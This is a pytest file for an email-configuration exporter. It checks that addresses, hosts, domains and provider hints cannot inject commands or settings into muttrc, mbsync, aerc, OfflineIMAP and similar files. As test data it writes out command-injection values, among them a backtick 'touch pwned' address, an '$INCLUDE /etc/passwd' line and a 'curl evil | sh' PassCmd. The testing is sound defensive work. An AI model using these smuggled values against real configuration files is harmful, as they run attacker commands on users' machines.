"""Hostile values in a result (an address with ` and $, a host with a line break, a % in a
user name) reach no client as settings or commands of their own; OAuth2 in a muttrc."""

from __future__ import annotations

import configparser
import shutil
import subprocess
from pathlib import Path

import pytest

from autoconf.errors import ExportError, ExportFailure
from autoconf.export import FORMATS, export
from autoconf.models import AuthMethod, DiscoveryResult, Protocol, ProviderInfo, Security

from .fixtures import PASSWORD_COMMAND, oauth2_result, result, server
from .readers import go_ini_value

# Every character RFC 5322 allows before the '@' that a shell or a config file treats
# specially; parse_address accepts this address.
HOSTILE_ADDRESS = "x`touch${IFS}pwned`$HOME%s#;|&'{}~!@example.net"


def _failure(res: DiscoveryResult, name: str, **options: str) -> ExportFailure:
    with pytest.raises(ExportError) as caught:
        export(res, name, **options)  # type: ignore[arg-type]
    return caught.value.reason


@pytest.mark.parametrize("name", ["neomutt", "mutt"])
def test_muttrc_writes_backtick_and_dollar_of_an_address_literally(name: str):
    """A muttrc runs `...` and expands $NAME inside double quotes: both are escaped."""
    text = export(result(address=HOSTILE_ADDRESS), name, password_command=PASSWORD_COMMAND)
    (line,) = [line for line in text.splitlines() if line.startswith("set from = ")]
    assert line == 'set from = "x\\`touch\\${IFS}pwned\\`\\$HOME%s#;|&\'{}~!@example.net"'
    settings = [line for line in text.splitlines() if not line.startswith("#")]
    assert not any("`touch" in line.replace("\\`touch", "") for line in settings)


@pytest.mark.skipif(shutil.which("neomutt") is None, reason="needs neomutt")
def test_neomutt_reads_the_hostile_address_back_and_runs_nothing(tmp_path: Path):
    """The real neomutt reads the exported from address as written and runs no command."""
    rc = tmp_path / "neomuttrc"
    address = HOSTILE_ADDRESS.replace(";", "")  # neomutt reads from as an address list
    rc.write_text(export(result(address=address), "neomutt", password_command="true"))
    done = subprocess.run(
        ["neomutt", "-n", "-F", str(rc), "-Q", "from"],
        cwd=tmp_path,
        env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin", "TERM": "dumb"},
        capture_output=True,
        text=True,
        timeout=20,
    )
    assert not (tmp_path / "pwned").exists()
    assert done.stdout == f'set from = "{address}"\n'  # no $HOME expanded


@pytest.mark.parametrize("name", ["neomutt", "mutt"])
def test_muttrc_oauth2_uses_the_refresh_command_not_the_password(name: str):
    """With OAUTHBEARER a muttrc takes the token from *_oauth_refresh_command (Mutt 1.11+,
    NeoMutt); *_pass is not used for it."""
    text = export(oauth2_result(), name, password_command="oauth2-token $USER")
    lines = text.splitlines()
    assert 'set imap_oauth_refresh_command = "oauth2-token \\$USER"' in lines
    assert 'set smtp_oauth_refresh_command = "oauth2-token \\$USER"' in lines
    assert not any(line.startswith(("set imap_pass", "set smtp_pass")) for line in lines)


def test_offlineimap_file_reads_back_with_percent_signs():
    """OfflineIMAP's configparser interpolates %(name)s: a % in the address, user name,
    folder or command is written %% and read back as it was."""
    user = "us%er"
    incoming = [server(Protocol.IMAP, "imap.example.net", 993, Security.TLS, username=user)]
    res = result(incoming=incoming, address="a%b@example.net")
    text = export(res, "offlineimap", password_command="pass show 100%", maildir="~/M%il/")
    parser = configparser.ConfigParser()  # what OfflineIMAP's CustomConfigParser is
    parser.read_string(text)
    assert parser.get("general", "accounts") == "a%b@example.net"
    remote = "Repository a%b@example.net-remote"
    assert parser.get(remote, "remoteuser") == user
    assert "'pass show 100%'" in parser.get(remote, "remotepasseval")
    assert parser.get("Repository a%b@example.net-local", "localfolders") == "~/M%il/"
    account = parser["Account a%b@example.net"]
    assert account["localrepository"] == "a%b@example.net-local"


@pytest.mark.parametrize("name", sorted(FORMATS))
@pytest.mark.parametrize(
    "host", ["imap.example.net\nPassCmd evil", 'imap.example.net" auth off', "imap example.net"]
)
def test_a_host_that_is_not_a_host_name_is_refused(name: str, host: str):
    """Hosts are written unquoted (msmtp host, zone lines): a result built by hand with a
    host holding a line break, quote or space is refused by every format."""
    incoming = [server(Protocol.IMAP, host, 993, Security.TLS)]
    outgoing = [server(Protocol.SMTP, host.replace("imap", "smtp"), 465, Security.TLS)]
    assert _failure(result(incoming, outgoing), name) is ExportFailure.UNSAFE_VALUE


@pytest.mark.parametrize("name", sorted(FORMATS))
def test_a_domain_or_address_with_controls_is_refused(name: str):
    """The result's domain (srv-zone's owner names) and address go into every file."""
    res = result()
    bad_domain = res.model_copy(update={"domain": "example.net.\n$INCLUDE /etc/passwd"})
    assert _failure(bad_domain, name) is ExportFailure.UNSAFE_VALUE
    bad_address = res.model_copy(update={"address": "ali\u202ece@example.net"})
    assert _failure(bad_address, name) is ExportFailure.UNSAFE_VALUE


@pytest.mark.parametrize("name", ["msmtp", "mbsync", "getmail", "aerc", "offlineimap"])
def test_placeholder_command_quotes_the_address_for_the_shell(name: str):
    """The commented placeholder, once uncommented, runs no part of the address."""
    text = export(result(address="a`id`$(x)@example.net"), name)
    assert "pass show email/'a`id`$(x)@example.net'" in text


@pytest.mark.parametrize("name", ["neomutt", "aerc"])
def test_an_ipv6_server_is_bracketed_in_urls(name: str):
    """imaps://user@[2001:db8::1]:993 — without brackets the port cannot be told apart."""
    incoming = [server(Protocol.IMAP, "2001:db8::1", 993, Security.TLS)]
    text = export(result(incoming=incoming), name)
    assert "@[2001:db8::1]:993" in text


def test_thunderbird_writes_only_plain_provider_domains():
    """A provider's domain list from the network may hold junk: only host names are kept."""
    provider = ProviderInfo(
        id="example.net", display_name="Ex", domains=["%EMAILDOMAIN%", "a b", "example.net"]
    )
    text = export(result(provider=provider), "thunderbird")
    assert "<domain>example.net</domain>" in text
    assert "EMAILDOMAIN" not in text
    assert "a b" not in text


def test_oauth2_only_server_still_gets_no_password_line_in_muttrc():
    """A server that takes OAuth2 only gets no *_pass line at all."""
    only = (AuthMethod.OAUTH2,)
    incoming = [server(Protocol.IMAP, "imap.example.net", 993, Security.TLS, auth=only)]
    outgoing = [server(Protocol.SMTP, "smtp.example.net", 465, Security.TLS, auth=only)]
    text = export(result(incoming, outgoing), "neomutt", password_command="tok")
    assert "_pass" not in text


def test_aerc_values_survive_its_ini_reader():
    """aerc cuts values at # or ;: a command or from address holding one is quoted so aerc
    reads back all of it."""
    address = "#team;x@example.net"
    command = 'gpg -dq "~/pw.gpg"; true # once'
    text = export(result(address=address), "aerc", password_command=command)
    values = dict(
        line.split(" = ", 1) for line in text.splitlines() if " = " in line and line[0] != "#"
    )
    assert go_ini_value(values["from"]) == address
    assert go_ini_value(values["source-cred-cmd"]) == command
    assert go_ini_value(values["outgoing-cred-cmd"]) == command


def test_mbsync_quotes_a_name_that_begins_with_a_hash():
    """An address may begin with #, which starts a comment in an mbsyncrc: such names are
    quoted, plain ones stay as they are."""
    text = export(result(address="#abc@example.net"), "mbsync", password_command="cat pw")
    lines = text.splitlines()
    assert 'IMAPAccount "#abc@example.net"' in lines
    assert 'Far ":#abc@example.net-remote:"' in lines
    assert "IMAPAccount alice@example.net" in export(result(), "mbsync").splitlines()


@pytest.mark.skipif(shutil.which("mbsync") is None, reason="needs mbsync")
def test_real_mbsync_reads_the_quoted_names(tmp_path: Path):
    """mbsync parses the file for a #-address without a config error (it then fails to
    connect to a closed loopback port, which is all this test lets it do)."""
    incoming = [server(Protocol.IMAP, "127.0.0.1", 9, Security.TLS)]
    res = result(incoming=incoming, address="#abc@example.net")
    maildir = tmp_path / "Mail"
    (maildir / "INBOX").mkdir(parents=True)
    rc = tmp_path / "mbsyncrc"
    rc.write_text(export(res, "mbsync", password_command="echo x", maildir=str(maildir)))
    done = subprocess.run(
        ["mbsync", "-c", str(rc), "-a"],
        env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"},
        capture_output=True,
        text=True,
        timeout=20,
    )
    assert "rc:" not in done.stderr  # mbsync names the file and line of a config error
    assert "127.0.0.1" in done.stderr


@pytest.mark.parametrize("name", ["msmtp", "mbsync", "getmail", "neomutt", "aerc", "fetchmail"])
def test_provider_hints_become_comment_lines_that_cannot_escape(name: str):
    """The provider's "before you connect" notes go into the file as comments; a hint with a
    line break or control character still gives comment lines only."""
    provider = ProviderInfo(
        id="example.net",
        domains=["example.net"],
        app_password_required=True,
        before_login_hint='Enable IMAP first.\nPassCmd "curl evil | sh"\x1b[2J',
    )
    text = export(result(provider=provider), name, password_command=PASSWORD_COMMAND)
    lines = text.splitlines()
    start = lines.index("# Before you connect (the provider's notes):")
    notes = lines[start + 1 : start + 3]
    assert notes[0] == "#   Sign in with an app password made in the account's settings."
    assert notes[1].startswith("#   Enable IMAP first. PassCmd")
    assert "\x1b" not in text
    assert not any(line.startswith('PassCmd "curl') for line in lines)
